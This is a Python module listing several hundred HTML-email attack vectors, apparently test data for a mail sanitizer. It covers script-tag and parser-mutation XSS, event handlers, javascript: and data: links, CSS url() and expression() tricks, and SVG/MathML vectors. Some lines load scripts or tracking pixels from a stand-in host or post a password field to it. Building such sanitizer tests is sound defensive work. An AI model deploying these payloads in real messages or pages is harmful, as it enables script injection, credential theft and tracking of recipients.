"""Attacks through a mail's HTML, written for this project: each line is one way in, by the channel it tries."""

SCRIPTS = """
<script>top.x=1</script>
<SCRIPT SRC=https://bad.example/a.js></SCRIPT>
<scr<script>ipt>top.x=1</scr</script>ipt>
<script/x>top.x=1</script >
<script[TAB]>top.x=1</script[LF]>
<<script>top.x=1//<</script>
<script src=//bad.example/a.js <b>x</script>
<script>/*<b>*/top.x=1</script><b>
</p><script>top.x=1</script>
<table><script>top.x=1</script></table>
<select><script>top.x=1</script></select>
<noscript><p title="</noscript><img src=x onerror=top.x=1>">
<xmp><p title="</xmp><script>top.x=1</script>"></xmp>
<title><a title="</title><script>top.x=1</script>"></title>
<textarea><a title="</textarea><script>top.x=1</script>"></textarea>
<style><a title="</style><script>top.x=1</script>"></style>
<iframe><a title="</iframe><script>top.x=1</script>"></iframe>
<noembed><a title="</noembed><script>top.x=1</script>"></noembed>
<noframes><a title="</noframes><script>top.x=1</script>"></noframes>
<!--><script>top.x=1</script>-->
<!--x--!><script>top.x=1</script>-->
<!---><script>top.x=1</script>-->
<![CDATA[<script>top.x=1</script>]]>
<?xml version="1.0"?><script>top.x=1</script>
<!DOCTYPE x [<!ENTITY y "z">]><script>top.x=1</script>
<template><script>top.x=1</script></template>
<object><script>top.x=1</script></object>
<b><script>top.x=1</b></script>
<script type=module>import("https://bad.example/a.js")</script>
<script[FF]>top.x=1</script>
<script>top.x=1</script foo="bar">
<plaintext><script>top.x=1</script>
""".strip().split("\n")

HANDLERS = """
<img src=x onerror=top.x=1>
<img src=x onerror="top.x=1">
<img src=x OnErRoR=top.x=1>
<img/src=x/onerror=top.x=1>
<img src=x onerror[LF]=[LF]top.x=1>
<img src="x" alt="`" onerror="top.x=1">
<img src=x alt=``onerror=top.x=1>
<img "><b onmouseover=top.x=1>x</b>
<p onclick=top.x=1>x</p>
<a onmouseenter=top.x=1 href="https://x.example">x</a>
<div onpointerrawupdate=top.x=1>x</div>
<div onfocus=top.x=1 tabindex=0 autofocus>x</div>
<div contenteditable onbeforeinput=top.x=1>x</div>
<div style="animation: spin 1s" onanimationstart=top.x=1>x</div>
<div style="transition: color 1s" ontransitionend=top.x=1>x</div>
<table background=x onload=top.x=1><tr><td>x</table>
<td onwheel=top.x=1>x</td>
<hr onscroll=top.x=1>
<font onselectstart=top.x=1>x</font>
<blockquote oncopy=top.x=1>x</blockquote>
<ol onbeforecopy=top.x=1><li>x</ol>
<b/onclick=top.x=1>x</b>
<b[FF]onclick=top.x=1>x</b>
<b "onclick=top.x=1>x</b>
<b 'onclick=top.x=1 ' onclick=top.x=1>x</b>
<b title='a"b' onclick='top.x=1'>x</b>
<b title=a`onclick=top.x=1 onclick=top.x=1>x</b>
<b onclick&#61;top.x=1 onclick=top.x=1>x</b>
<center onafterscriptexecute=top.x=1>x</center>
<span popovertarget=x onbeforetoggle=top.x=1>x</span>
""".strip().split("\n")

LINKS = """
<a href="javascript:top.x=1">x</a>
<a href="JaVaScRiPt:top.x=1">x</a>
<a href=" javascript:top.x=1">x</a>
<a href="&#1;javascript:top.x=1">x</a>
<a href="java&#9;script:top.x=1">x</a>
<a href="java&#10;script:top.x=1">x</a>
<a href="java&#13;script:top.x=1">x</a>
<a href="java&NewLine;script:top.x=1">x</a>
<a href="javascript&colon;top.x=1">x</a>
<a href="&#106;&#97;&#118;&#97;script:top.x=1">x</a>
<a href="&#x6A;avascript:top.x=1">x</a>
<a href="javascript&#0000058top.x=1">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>top.x=1</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="data:image/svg+xml,<svg onload=top.x=1>">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://x.example/1">x</a>
<a href="filesystem:https://x.example/1">x</a>
<a href="view-source:https://x.example">x</a>
<a href="feed:javascript:top.x=1">x</a>
<a href="jar:https://x.example!/a">x</a>
<a href="about:blank">x</a>
<a href="intent://x#Intent;end">x</a>
<a href="ms-msdt:/id">x</a>
<a href="search-ms:query=x">x</a>
<a href="smb://bad.example/x">x</a>
<a href="cid:a@b">x</a>
<a href="/oauth/mailbox">x</a>
<a href="//bad.example/">x</a>
<a href="\\\\bad.example\\x">x</a>
<a href="http:bad.example">x</a>
<a href="https:/bad.example">x</a>
<a href="https:///">x</a>
<a href="#x">x</a>
<a href="?q">x</a>
<a href="javascript://x.example/%0atop.x=1">x</a>
<a href="https://x.example" target="_self" rel="opener">x</a>
<a href="https://x.example" target="top">x</a>
<a href="https://x.example" ping="https://bad.example">x</a>
<a href="https://x.example" download onclick="top.x=1">x</a>
<a xlink:href="javascript:top.x=1">x</a>
<a href=javascript:top.x=1 href=https://x.example>x</a>
<a href="\u200bjavascript:top.x=1">x</a>
<a href="java\u00adscript:top.x=1">x</a>
<a href="ｊavascript:top.x=1">x</a>
<map name=m><area shape=default href=javascript:top.x=1></map>
""".strip().split("\n")

LOADS = """
<img src="https://bad.example/p.gif">
<img src="http://bad.example/p.gif" width=1 height=1>
<img src="//bad.example/p.gif">
<img src="/proxy/messages">
<img src="ftp://bad.example/p.gif">
<img src="data:image/svg+xml;base64,PHN2Zz4=">
<img src="data:text/html,x">
<img src="data:image/png,x">
<img src="javascript:top.x=1">
<img srcset="https://bad.example/a 1x">
<img src=x lowsrc=https://bad.example/a>
<img dynsrc=https://bad.example/a.avi>
<img src=x longdesc=https://bad.example/a>
<img src=x usemap=#m>
<image src=https://bad.example/a>
<picture><source srcset=https://bad.example/a><img></picture>
<input type=image src=https://bad.example/a>
<video src=https://bad.example/a poster=https://bad.example/b></video>
<video><source src=https://bad.example/a></video>
<audio src=https://bad.example/a autoplay></audio>
<track src=https://bad.example/a>
<body background=https://bad.example/a>
<table background=https://bad.example/a><tr><td background=https://bad.example/b>x</table>
<iframe src=https://bad.example></iframe>
<iframe srcdoc="<script>top.x=1</script>"></iframe>
<frameset><frame src=https://bad.example></frameset>
<object data=https://bad.example></object>
<object type="text/html" data="data:text/html,<script>top.x=1</script>"></object>
<embed src=https://bad.example>
<applet code=x codebase=https://bad.example></applet>
<bgsound src=https://bad.example/a>
<portal src=https://bad.example></portal>
<fencedframe src=https://bad.example></fencedframe>
<link rel=stylesheet href=https://bad.example/a.css>
<link rel=dns-prefetch href=//bad.example>
<link rel=preload as=image href=https://bad.example/a>
<link rel=icon href=https://bad.example/a>
<meta http-equiv=refresh content="0;url=https://bad.example">
<meta http-equiv="Set-Cookie" content="a=b">
<meta name=referrer content=unsafe-url>
<base href=https://bad.example/>
<base target=_top>
<html manifest=https://bad.example/a>
<blockquote cite=https://bad.example/a>x</blockquote>
<layer src=https://bad.example></layer>
<marquee src=https://bad.example>x</marquee>
<isindex action=javascript:top.x=1>
""".strip().split("\n")

STYLES = """
<style>*{background:url(https://bad.example)}</style>
<style>@import "https://bad.example/a.css";</style>
<p style="background:url(https://bad.example/a)">x</p>
<p style="background:URL('https://bad.example/a')">x</p>
<p style="background-image:url(https://bad.example/a)">x</p>
<p style="background:u\\72l(https://bad.example/a)">x</p>
<p style="background:\\75 rl(https://bad.example/a)">x</p>
<p style="b\\61 ckground:url(https://bad.example/a)">x</p>
<p style="background:url/**/(https://bad.example/a)">x</p>
<p style="background/**/:/**/url(https://bad.example/a)">x</p>
<p style="background:image-set('https://bad.example/a' 1x)">x</p>
<p style="background:-webkit-image-set(url(https://bad.example/a) 1x)">x</p>
<p style="background:cross-fade(url(https://bad.example/a),red)">x</p>
<p style="list-style:url(https://bad.example/a)">x</p>
<p style="list-style-image:url(https://bad.example/a)">x</p>
<p style="cursor:url(https://bad.example/a),auto">x</p>
<p style="content:url(https://bad.example/a)">x</p>
<p style="border-image:url(https://bad.example/a) 1">x</p>
<p style="mask:url(https://bad.example/a)">x</p>
<p style="filter:url(https://bad.example/a#b)">x</p>
<p style="clip-path:url(https://bad.example/a#b)">x</p>
<p style="shape-outside:url(https://bad.example/a)">x</p>
<p style="offset-path:url(https://bad.example/a)">x</p>
<p style="src:url(https://bad.example/a)">x</p>
<p style="behavior:url(a.htc)">x</p>
<p style="-moz-binding:url(https://bad.example/a#b)">x</p>
<p style="width:expression(top.x=1)">x</p>
<p style="width:exp/**/ression(top.x=1)">x</p>
<p style="color:var(--x,url(https://bad.example/a))">x</p>
<p style="--x:url(https://bad.example/a);color:red">x</p>
<p style="color:attr(title)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>
<p style="position:absolute;z-index:99999">x</p>
<p style="po\\73ition:fixed">x</p>
<p style="font-family:'</style><script>top.x=1</script>'">x</p>
<p style="font-family:'a\\27;background:url(https://bad.example/a)'">x</p>
<p style='font-family:"x\\";background:url(https://bad.example/a);"'>x</p>
<p style="color:red;}*{background:url(https://bad.example/a)">x</p>
<p style="@import 'https://bad.example/a'">x</p>
<p style="color:red;@media all{x:url(https://bad.example/a)}">x</p>
<p style="background:url(data:image/svg+xml,x)">x</p>
<p style="background:url( https://bad.example/a">x</p>
<p style="color:rgb(url(https://bad.example/a),0,0)">x</p>
<p style="background:element(#x) url(a)">x</p>
<p style="background:paint(x),url(a)">x</p>
<p style="color:&#x75;rl(https://bad.example/a);background:&#117;rl(a)">x</p>
""".strip().split("\n")

FOREIGN = """
<svg onload=top.x=1>
<svg><script>top.x=1</script></svg>
<svg><script xlink:href=https://bad.example/a.js /></svg>
<svg><a xlink:href="javascript:top.x=1"><text>x</text></a></svg>
<svg><animate attributeName=href values=javascript:top.x=1 /></svg>
<svg><set attributeName=onmouseover to=top.x=1 /></svg>
<svg><use href="data:image/svg+xml,x"></svg>
<svg><image href=https://bad.example/a></svg>
<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>
<svg><style>@import url(https://bad.example/a)</style></svg>
<svg><title><style><img src=x onerror=top.x=1></style></title></svg>
<svg></p><style><a title="</style><img src=x onerror=top.x=1>">
<math><mtext><script>top.x=1</script></mtext></math>
<math href="javascript:top.x=1">x</math>
<math><maction actiontype="statusline#https://bad.example" xlink:href="javascript:top.x=1">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=top.x=1>">
<math><mi><table><mglyph><style><math><img src=x onerror=top.x=1></style>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=top.x=1></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=top.x=1>
<svg><desc><noscript><img src=x onerror=top.x=1></noscript></desc></svg>
""".strip().split("\n")

PAGES = """
<form action=https://bad.example><input name=password></form>
<button formaction=javascript:top.x=1>x</button>
<input onfocus=top.x=1 autofocus>
<keygen autofocus onfocus=top.x=1>
<textarea autofocus onfocus=top.x=1></textarea>
<select autofocus onfocus=top.x=1><option>x</select>
<details open ontoggle=top.x=1>x</details>
<dialog open>x</dialog>
<a name=document>x</a>
<img name=cookie src=x>
<p id=parent>x</p>
<p class=modal-overlay>x</p>
<slot name=x></slot>
<x-element onclick=top.x=1>x</x-element>
<div is=x-element>x</div>
<o:p onclick=top.x=1>x</o:p>
<xml><x>x</x></xml><p id=x>
<canvas id=c></canvas>
<!--[if mso]><script>top.x=1</script><![endif]-->
<!--[if gte IE 4]><script>top.x=1</script><![endif]--><p class=x>
""".strip().split("\n")

_CONTROLS = {"[TAB]": "\t", "[LF]": "\n", "[NUL]": "\0", "[FF]": "\f"}


def _with_controls(vector: str) -> str:
    for name, character in _CONTROLS.items():
        vector = vector.replace(name, character)
    return vector


VECTORS: tuple[str, ...] = tuple(
    _with_controls(vector)
    for group in (SCRIPTS, HANDLERS, LINKS, LOADS, STYLES, FOREIGN, PAGES)
    for vector in group
)
